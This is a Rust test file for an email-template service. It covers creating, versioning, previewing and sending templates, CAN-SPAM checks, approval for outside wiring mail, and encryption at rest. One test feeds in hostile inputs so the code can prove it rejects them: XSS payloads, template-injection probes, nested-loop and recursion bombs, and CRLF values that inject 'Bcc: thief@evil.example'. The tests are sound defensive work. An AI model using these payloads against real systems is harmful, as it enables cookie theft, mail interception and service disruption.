//! Email templates through every layer: create, find, version, preview and
//! send through the sandbox's sendMail; hostile templates and values never
//! reach the outbox; marketing mail must be CAN-SPAM compliant; wiring mail
//! to outside domains needs approval; templates are encrypted at rest.

use crate::harness::*;
use serde_json::{Value, json};

const SENDER: &str = "admin@libertygoldsilver.com";

fn invoice_template() -> Value {
    json!({
        "templateName": "Invoice Reminder",
        "subject": "Invoice {{ invoice }} is due",
        "bodyHtml": "<p>Dear {{ name }},</p><p>Invoice <b>{{ invoice }}</b> for {{ amount }} is due.</p>",
        "bodyText": "Dear {{ name }},\nInvoice {{ invoice }} for {{ amount }} is due.",
        "category": "customer_communication",
        "variables": ["name", "invoice", "amount"],
        "description": "Payment reminder for an open invoice",
    })
}

#[tokio::test]
async fn create_find_version_preview_and_send() {
    let s = Server::start(Options::default()).await;
    let created = s.ok("create_email_template", invoice_template()).await;
    let id = created["template"]["templateId"]
        .as_str()
        .unwrap()
        .to_string();
    assert_eq!(id, "invoice-reminder");
    assert_eq!(created["template"]["version"], 1);
    assert_eq!(created["removedFromHtml"], json!([]));

    // The sandbox offers the three examples too; category and search narrow.
    let all = s.ok("list_email_templates", json!({})).await;
    assert_eq!(all["templates"].as_array().unwrap().len(), 4, "{all}");
    let by_category = s
        .ok(
            "list_email_templates",
            json!({"category": "customer_communication"}),
        )
        .await;
    let ids: Vec<&str> = by_category["templates"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t["templateId"].as_str().unwrap())
        .collect();
    assert_eq!(ids, ["customer-order-update", "invoice-reminder"]);
    let searched = s
        .ok(
            "list_email_templates",
            json!({"searchQuery": "payment reminder"}),
        )
        .await;
    assert_eq!(searched["templates"][0]["templateId"], id);
    assert_eq!(searched["templates"].as_array().unwrap().len(), 1);

    // A second template of the same name is refused.
    let e = s.err("create_email_template", invoice_template()).await;
    assert_eq!(e["code"], "INPUT_001");
    assert!(
        e["message"].as_str().unwrap().contains("invoice-reminder"),
        "{e}"
    );

    // Update: version 2; version 1 still readable.
    let updated = s
        .ok(
            "update_email_template",
            json!({"templateId": id, "subject": "Reminder: invoice {{ invoice }}", "expectedVersion": 1}),
        )
        .await;
    assert_eq!(updated["template"]["version"], 2);
    let stale = s
        .err(
            "update_email_template",
            json!({"templateId": id, "subject": "x", "expectedVersion": 1}),
        )
        .await;
    assert_eq!(stale["code"], "STORE_001");
    let v1 = s
        .ok(
            "get_email_template",
            json!({"templateId": id, "version": 1}),
        )
        .await;
    assert_eq!(v1["subject"], "Invoice {{ invoice }} is due");
    let now = s.ok("get_email_template", json!({"templateId": id})).await;
    assert_eq!(now["subject"], "Reminder: invoice {{ invoice }}");
    assert_eq!(now["earlierVersions"], json!([1]));
    let resource = s.read(&format!("m365://templates/{id}")).await;
    assert_eq!(resource["version"], 2);

    let vars = json!({"name": "Ann <Admin>", "invoice": "INV-7", "amount": "$1,200"});
    let preview = s
        .ok(
            "preview_email_template",
            json!({"templateId": id, "variables": vars}),
        )
        .await;
    assert_eq!(preview["subject"], "Reminder: invoice INV-7");
    assert!(
        preview["bodyHtml"]
            .as_str()
            .unwrap()
            .contains("Ann &lt;Admin&gt;")
    );
    assert!(
        preview["bodyText"]
            .as_str()
            .unwrap()
            .contains("Ann <Admin>")
    );
    assert!(s.sandbox().outbox().await.is_empty(), "preview sent mail");

    let sent = s
        .ok(
            "send_from_template",
            json!({"templateId": id, "variables": vars, "from": SENDER,
                   "to": ["ann@contoso.example", "bob@contoso.example"],
                   "cc": ["carol@libertygoldsilver.com"], "bcc": ["audit@libertygoldsilver.com"],
                   "requestReadReceipt": true}),
        )
        .await;
    assert_eq!(sent["usageRecords"], 4);
    let outbox = s.sandbox().outbox().await;
    assert_eq!(outbox.len(), 1, "{outbox:#?}");
    let m = &outbox[0];
    assert_eq!(m["from"], SENDER);
    assert_eq!(
        m["to"],
        json!(["ann@contoso.example", "bob@contoso.example"])
    );
    assert_eq!(m["cc"], json!(["carol@libertygoldsilver.com"]));
    assert_eq!(m["bcc"], json!(["audit@libertygoldsilver.com"]));
    assert_eq!(m["subject"], "Reminder: invoice INV-7");
    assert!(
        m["bodyHtml"]
            .as_str()
            .unwrap()
            .contains("Ann &lt;Admin&gt;"),
        "{m}"
    );
    assert_eq!(
        m["bodyText"],
        "Dear Ann <Admin>,\nInvoice INV-7 for $1,200 is due."
    );
    assert_eq!(m["isReadReceiptRequested"], true);
    assert_eq!(m["isDeliveryReceiptRequested"], false);
    assert_eq!(m["headers"]["X-M365Admin-Send-Id"], sent["sendId"]);

    let usage = s.read(&format!("m365://templates/{id}/usage")).await;
    assert_eq!(usage["sent"], 4);
    let recipients: Vec<&str> = usage["usage"]
        .as_array()
        .unwrap()
        .iter()
        .map(|u| u["recipient"].as_str().unwrap())
        .collect();
    assert_eq!(
        recipients,
        [
            "ann@contoso.example",
            "bob@contoso.example",
            "carol@libertygoldsilver.com",
            "audit@libertygoldsilver.com"
        ]
    );
    assert_eq!(usage["usage"][0]["version"], 2);
    assert_eq!(usage["usage"][0]["sender"], SENDER);

    // Listed as resources; unknown ids are TMPL_001.
    let resources = s.client.list_all_resources().await.unwrap();
    assert!(
        resources
            .iter()
            .any(|r| r.uri == format!("m365://templates/{id}"))
    );
    let e = s
        .err("get_email_template", json!({"templateId": "nope"}))
        .await;
    assert_eq!(e["code"], "TMPL_001");
    let e = s
        .err(
            "send_from_template",
            json!({"templateId": "nope", "to": ["a@b.co"], "variables": {}, "from": SENDER}),
        )
        .await;
    assert_eq!(e["code"], "TMPL_001");
    s.finish().await;
}

#[tokio::test]
async fn hostile_templates_and_values_never_reach_the_outbox() {
    let s = Server::start(Options::default()).await;
    let created = s
        .ok(
            "create_email_template",
            json!({
                "templateName": "Hostile",
                "subject": "Hello {{ name }}",
                "bodyHtml": "<p onclick=\"steal()\">Hi {{ name }}</p><script>alert(1)</script><img src=x onerror=alert(1)>\
<a href=\"javascript:alert(1)\">x</a><div style=\"background:url(https://tracker.example/p.gif)\">y</div>\
<form action=\"https://evil.example\"><input name=p></form><a href=\"{{ link }}\">link</a>",
                "category": "customer_communication",
                "variables": ["name", "link"],
            }),
        )
        .await;
    let removed = created["removedFromHtml"].to_string();
    for said in [
        "script",
        "onclick",
        "onerror",
        "javascript:",
        "forms",
        "url()",
    ] {
        assert!(removed.contains(said), "{said} not reported: {removed}");
    }
    let html = created["template"]["bodyHtml"]
        .as_str()
        .unwrap()
        .to_lowercase();
    for gone in [
        "<script",
        "onclick",
        "onerror",
        "javascript:",
        "<form",
        "tracker.example",
    ] {
        assert!(!html.contains(gone), "{gone} stored: {html}");
    }

    for (name, template) in [
        ("ssti", "{{ ''.__class__.__mro__ }}"),
        ("include", "{% include 'secrets' %}"),
        (
            "loop",
            "{% for i in range(100000) %}{% for j in range(100000) %}x{% endfor %}{% endfor %}",
        ),
        (
            "recursion",
            "{% macro r(n) %}{{ r(n) }}{% endmacro %}{{ r(1) }}",
        ),
    ] {
        let r = s
            .call(
                "create_email_template",
                json!({"templateName": name, "subject": "s", "bodyHtml": format!("<p>{template}</p>"),
                       "category": "customer_communication"}),
            )
            .await;
        if r.is_error == Some(true) {
            let e = &r.structured_content.as_ref().unwrap()["error"];
            assert_eq!(e["code"], "INPUT_001", "{name}: {e}");
            continue;
        }
        // Saved (it declares no variables): it must not render or send.
        let id = r.structured_content.as_ref().unwrap()["template"]["templateId"].clone();
        let e = s
            .err("send_from_template", json!({"templateId": id, "to": ["a@contoso.example"], "variables": {}, "from": SENDER}))
            .await;
        assert_eq!(e["code"], "INPUT_001", "{name}: {e}");
    }

    let id = created["template"]["templateId"].as_str().unwrap();
    // A value with a line break would inject headers through the subject.
    let e = s
        .err(
            "send_from_template",
            json!({"templateId": id, "to": ["a@contoso.example"], "from": SENDER,
                   "variables": {"name": "Ann\r\nBcc: thief@evil.example", "link": "https://ok.example"}}),
        )
        .await;
    assert_eq!(e["code"], "INPUT_001");
    assert!(e["message"].as_str().unwrap().contains("name"), "{e}");
    // ...as would an address.
    let e = s
        .err(
            "send_from_template",
            json!({"templateId": id, "to": ["a@contoso.example\r\nBcc: thief@evil.example"], "from": SENDER,
                   "variables": {"name": "Ann", "link": "https://ok.example"}}),
        )
        .await;
    assert_eq!(e["code"], "INPUT_001");
    // Missing and undeclared variables are named.
    let e = s
        .err(
            "send_from_template",
            json!({"templateId": id, "to": ["a@contoso.example"], "from": SENDER, "variables": {"nmae": "Ann"}}),
        )
        .await;
    let msg = e["message"].as_str().unwrap();
    assert!(
        msg.contains("missing")
            && msg.contains("name")
            && msg.contains("link")
            && msg.contains("nmae"),
        "{msg}"
    );
    assert!(
        s.sandbox().outbox().await.is_empty(),
        "a hostile message was sent"
    );

    // HTML in a value is escaped; a javascript: URL in an attribute removed.
    s.ok(
        "send_from_template",
        json!({"templateId": id, "to": ["a@contoso.example"], "from": SENDER,
               "variables": {"name": "<img src=x onerror=alert(1)>", "link": "javascript:alert(document.cookie)"}}),
    )
    .await;
    let outbox = s.sandbox().outbox().await;
    let html = outbox[0]["bodyHtml"].as_str().unwrap().to_lowercase();
    // The value shows as text; the template's own image has no handler.
    assert!(
        html.contains("&lt;img src=x onerror=alert(1)&gt;"),
        "{html}"
    );
    assert_eq!(html.matches("<img").count(), 1, "{html}");
    assert!(
        !html.contains("onerror=\"") && !html.contains("javascript:"),
        "{html}"
    );
    s.finish().await;
}

#[tokio::test]
async fn marketing_mail_needs_an_unsubscribe_link_and_a_postal_address() {
    let s = Server::start(Options::default()).await;
    let e = s
        .err(
            "create_email_template",
            json!({"templateName": "Sale", "subject": "Sale!", "bodyHtml": "<p>Gold 10% off</p>", "category": "marketing"}),
        )
        .await;
    assert_eq!(e["code"], "INPUT_001");
    let msg = e["message"].as_str().unwrap();
    assert!(
        msg.contains("unsubscribe") && msg.contains("postal address"),
        "{msg}"
    );

    // The example newsletter is compliant; sending it with an empty
    // unsubscribe URL is not.
    let e = s
        .err(
            "send_from_template",
            json!({"templateId": "monthly-market-newsletter", "to": ["a@contoso.example"], "from": SENDER,
                   "variables": {"month": "May", "headline": "Silver up", "unsubscribe_url": ""}}),
        )
        .await;
    assert_eq!(e["code"], "INPUT_001", "{e}");
    s.ok(
        "send_from_template",
        json!({"templateId": "monthly-market-newsletter", "to": ["a@contoso.example"], "from": SENDER,
               "variables": {"month": "May", "headline": "Silver up", "unsubscribe_url": "https://libertygoldsilver.com/u/1"}}),
    )
    .await;
    assert_eq!(s.sandbox().outbox().await.len(), 1);
    s.finish().await;
}

fn wiring_values() -> Value {
    json!({"customer_name": "Dana", "amount": "$25,000", "order_number": "SO-1001",
           "bank_name": "First Bank", "routing_number": "021000021", "account_number": "4471992033"})
}

#[tokio::test]
async fn wiring_previews_mask_and_outside_recipients_need_approval() {
    let s = Server::start(Options::default()).await;
    let id = "wiring-instructions-v1";
    let preview = s
        .ok(
            "preview_email_template",
            json!({"templateId": id, "variables": wiring_values()}),
        )
        .await;
    let text = preview["bodyText"].as_str().unwrap();
    assert!(
        !text.contains("4471992033") && text.contains("••••••2033"),
        "{text}"
    );
    let revealed = s
        .ok(
            "preview_email_template",
            json!({"templateId": id, "variables": wiring_values(), "revealAccountNumbers": true}),
        )
        .await;
    assert!(
        revealed["bodyText"]
            .as_str()
            .unwrap()
            .contains("4471992033")
    );

    // Inside the firm's domains: sent at once.
    s.ok(
        "send_from_template",
        json!({"templateId": id, "to": ["ops@libertygoldsilver.com"], "from": SENDER, "variables": wiring_values()}),
    )
    .await;
    assert_eq!(s.sandbox().outbox().await.len(), 1);

    // Outside: nothing sent until approved with the token.
    let args = json!({"templateId": id, "to": ["dana@customer.example"], "from": SENDER, "variables": wiring_values()});
    let e = s.err("send_from_template", args.clone()).await;
    assert_eq!(e["code"], "CONFIRM_001");
    assert!(
        e["details"]["plan"]
            .as_str()
            .unwrap()
            .contains("dana@customer.example"),
        "{e}"
    );
    assert_eq!(s.sandbox().outbox().await.len(), 1);
    let mut approved = args.clone();
    approved["confirmationToken"] = e["details"]["confirmationToken"].clone();
    s.ok("send_from_template", approved).await;
    let outbox = s.sandbox().outbox().await;
    assert_eq!(outbox.len(), 2);
    assert!(
        outbox[1]["bodyText"]
            .as_str()
            .unwrap()
            .contains("4471992033")
    );

    // The usage record keeps the account number masked.
    let usage = s.read(&format!("m365://templates/{id}/usage")).await;
    assert!(!usage.to_string().contains("4471992033"), "{usage}");
    let dir = s.stop().await;

    // Reads and sends of the wiring template are in the audit trail.
    let audit = cli(dir.path(), &["audit", "export", "--sandbox"], &[]).await;
    let reads = audit
        .stdout
        .lines()
        .filter(|l| l.contains("\"kind\":\"call\"") && l.contains(id))
        .count();
    assert!(reads >= 5, "{}", audit.stdout);

    // The stored template text is not readable in the file.
    for entry in std::fs::read_dir(dir.path().join("data")).unwrap() {
        let path = entry.unwrap().path();
        if path.to_string_lossy().contains("m365_admin.db") && path.is_file() {
            let bytes = std::fs::read(&path).unwrap();
            for needle in ["We never change these instructions", "Routing (ABA)"] {
                assert!(
                    !bytes.windows(needle.len()).any(|w| w == needle.as_bytes()),
                    "{needle} readable in {}",
                    path.display()
                );
            }
        }
    }
}

#[tokio::test]
async fn the_first_calls_of_a_fresh_sandbox_all_find_the_examples() {
    // The examples are written on first use; calls that arrive together must
    // each wait for them, not fail with "no template".
    let s = Server::start(Options::default()).await;
    let preview = || {
        s.call(
            "preview_email_template",
            json!({"templateId": "customer-order-update",
                   "variables": {"customer_name": "Ann", "order_number": "7", "status": "shipped"}}),
        )
    };
    let all = tokio::join!(
        preview(),
        preview(),
        preview(),
        preview(),
        preview(),
        preview(),
        preview(),
        preview()
    );
    for r in [all.0, all.1, all.2, all.3, all.4, all.5, all.6, all.7] {
        assert_ne!(r.is_error, Some(true), "{}", text_of(&r));
    }
    let list = s.ok("list_email_templates", json!({})).await;
    assert_eq!(list["templates"].as_array().unwrap().len(), 3, "{list}");
    s.finish().await;
}
